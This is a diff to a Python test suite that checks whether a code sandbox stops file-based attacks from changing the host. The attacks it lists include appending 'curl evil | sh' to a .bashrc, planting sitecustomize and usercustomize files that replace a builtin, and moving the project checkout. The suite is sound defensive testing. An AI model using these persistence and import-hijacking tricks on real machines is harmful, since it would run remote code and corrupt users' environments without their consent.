@@ -48,7 +48,8 @@ def run():
         attempt(f'sitecustomize in {d}', lambda d=d: write(os.path.join(d, 'sitecustomize.py'), 'import builtins\nbuiltins.max = min\n'))
     attempt('home .bashrc', lambda: write(os.path.join(T['home'], '.bashrc'), 'curl evil | sh\n', 'a'))
     attempt('home usercustomize', lambda: write(os.path.join(T['home_site'], 'usercustomize.py'), 'import builtins\nbuiltins.max = min\n'))
-    attempt('rename the checkout', lambda: os.rename(T['checkout'], T['checkout'] + '-moved'))   # last: it would hide the rest
+    attempt('move the checkout to /tmp', lambda: os.rename(T['checkout'], T['host_tmp_marker'] + '-checkout'))   # last two:
+    attempt('rename the checkout', lambda: os.rename(T['checkout'], T['checkout'] + '-moved'))   # they would hide the rest
     # every directory on the program's own sys.path and the real interpreter's files: checked without writing
     own = ('/tmp', '/dev/shm', os.getcwd())
     out['writable sys.path'] = [p for p in sys.path if os.path.isdir(p) and not p.startswith(own) and os.access(p, os.W_OK)]
@@ -79,7 +80,7 @@ def _make_targets(owner: int | None = None) -> dict:
     return {'base': str(base), 'checkout': str(checkout), 'stdlib': str(stdlib), 'site': str(site), 'home': str(home),
             'home_site': str(home_site), 'path_dirs': [str(stdlib), str(site), str(checkout), str(home_site)],
             'host_tmp_dir': str(host_tmp_dir), 'host_tmp_marker': f'/tmp/{MARK}', 'host_shm_marker': f'/dev/shm/{MARK}',
-            'mark': MARK}
+            'mark': MARK, 'writable': [str(d) for d in (checkout, stdlib, site, home, home_site, host_tmp_dir, '/tmp', '/dev/shm')]}
 
 
 def _state(t: dict) -> dict:
@@ -88,7 +89,7 @@ def _state(t: dict) -> dict:
     for root in (t['base'], t['host_tmp_dir']):
         for p in sorted(Path(root).rglob('*')):
             out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else 'dir'
-    out['markers'] = [m for m in (t['host_tmp_marker'], t['host_shm_marker']) if os.path.lexists(m)]
+    out['markers'] = [m for m in (t['host_tmp_marker'], t['host_tmp_marker'] + '-checkout', t['host_shm_marker']) if os.path.lexists(m)]
     return out
 
 
@@ -104,9 +105,15 @@ def _check(report: dict, before: dict, after: dict) -> None:
 def targets():
     t = _make_targets()
     yield t
+    _remove_targets(t)
+
+
+def _remove_targets(t: dict) -> None:
+    "Remove the test's directories and any marker an attack left (none, unless a test fails)."
     for m in (t['host_tmp_marker'], t['host_shm_marker']):
         if os.path.lexists(m): os.unlink(m)
-    shutil.rmtree(t['base'], ignore_errors=True); shutil.rmtree(t['host_tmp_dir'], ignore_errors=True)
+    for d in (t['base'], t['host_tmp_dir'], t['host_tmp_marker'] + '-checkout', t['checkout'] + '-moved'):
+        shutil.rmtree(d, ignore_errors=True)
 
 
 def _hide_bwrap(monkeypatch):
@@ -122,6 +129,7 @@ def test_file_attacks_change_nothing_on_the_host(mode, targets, monkeypatch):
     if mode == 'auto without bwrap': _hide_bwrap(monkeypatch)
     asked = 'auto' if mode.startswith('auto') else mode
     if asked != 'auto' and not I.probe(asked): pytest.skip(f'{asked} does not work here: {I._PROBE_ERRORS.get(asked)}')
+    assert all(os.access(d, os.W_OK) for d in targets['writable'])   # the control: outside a sandbox every write would succeed
     monkeypatch.chdir(targets['checkout'])
     monkeypatch.syspath_prepend(targets['site'])       # bound read-only into the sandbox and on the zygote's sys.path
     before = _state(targets)
@@ -163,6 +171,7 @@ targets = json.loads(TARGETS)
 sys.path.append(targets['site'])
 os.chdir(targets['checkout'])
 from ugttt.sandbox import Sandbox
+assert all(os.access(d, os.W_OK) for d in targets['writable'])   # the control: outside a sandbox every write would succeed
 with Sandbox(workers=1, budget_s=10.0, memory_mb=512, isolation=MODE) as s:
     r = s.run(ATTACK % json.dumps(targets), 'run')
     print(json.dumps({'uid': os.getuid(), 'isolation': s.isolation, 'ok': r.ok, 'error': r.error, 'report': r.value,
@@ -199,10 +208,7 @@ def test_file_attacks_as_a_normal_user_change_nothing(mode):
         assert any('user namespace' in l for l in out['layers']), out['layers']
         assert out['ok'], out
         _check(out['report'], before, _state(t))
-    finally:
-        for m in (t['host_tmp_marker'], t['host_shm_marker']):
-            if os.path.lexists(m): os.unlink(m)
-        shutil.rmtree(t['base'], ignore_errors=True); shutil.rmtree(t['host_tmp_dir'], ignore_errors=True)
+    finally: _remove_targets(t)
 
 
 # ---------------------------------------------------------------------------------------------------------------------
